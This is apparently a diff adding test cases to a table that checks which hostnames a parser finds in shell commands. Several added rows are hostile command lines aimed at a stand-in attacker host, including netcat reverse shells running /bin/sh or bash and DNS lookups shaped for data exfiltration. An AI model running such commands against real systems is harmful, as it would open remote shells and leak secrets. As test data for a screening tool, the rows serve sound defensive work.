@@ -68,6 +68,37 @@ COMMANDS: list[tuple[str, list[str]]] = [
     ("mysql -hintranet x", ["intranet"]),
     ("redis-cli --host=intranet ping", ["intranet"]),
     ("grep '\\\\\\\\x' f", []),
+    *(
+        (f"curl -{letters}x evil.example:80 http://a.b/", ["a.b", "evil.example"])
+        for letters in ("s", "sk", "4", "L")
+    ),
+    ("ssh -vJ evil.example ok.example", ["evil.example", "ok.example"]),
+    ("ssh ok.example -vJ evil.example", ["evil.example", "ok.example"]),
+    ("ssh ok.example ls -J x", ["ok.example"]),
+    ("rsync -e 'ssh -J evil.example' a ok.example:x", ["evil.example", "ok.example"]),
+    *(
+        (f"{program} 80", ["evil.example"])
+        for program in (
+            "nc evil.example",
+            "nc -e /bin/sh evil.example",
+            "netcat -w 3 -e /bin/sh evil.example",
+            "ncat --exec /bin/bash evil.example",
+            "ncat --ssl evil.example",
+            "timeout 5 nc -w3 evil.example",
+            "nc -vz evil.example",
+        )
+    ),
+    ("nc -c bash evil.example 80", ["bash", "evil.example"]),
+    ("dig +short secret.evil.example @ns.evil.example TXT", ["secret.evil.example", "ns.evil.example"]),
+    ("nslookup secret.evil.example 6.6.6.6", ["secret.evil.example", "6.6.6.6"]),
+    ("psql 'host=evil.example dbname=x' -c 'select 1'", ["evil.example"]),
+    ("psql -d \"dbname=x host = 'evil.example'\"", ["evil.example"]),
+    ("PGHOST=evil.example psql", ["evil.example"]),
+    ("mysql --hos evil.example", ["evil.example"]),
+    ("mysql -uroot -p -hevil.example", ["evil.example"]),
+    ("kubectl --server evil.example get pods", ["evil.example"]),
+    ("swaks --to a@b --server evil.example", ["evil.example"]),
+    ("msmtp --host=evil.example a@b", ["evil.example"]),
     ("rm -rf build.dir", []),
     ("cat a.b.c", []),
 ]
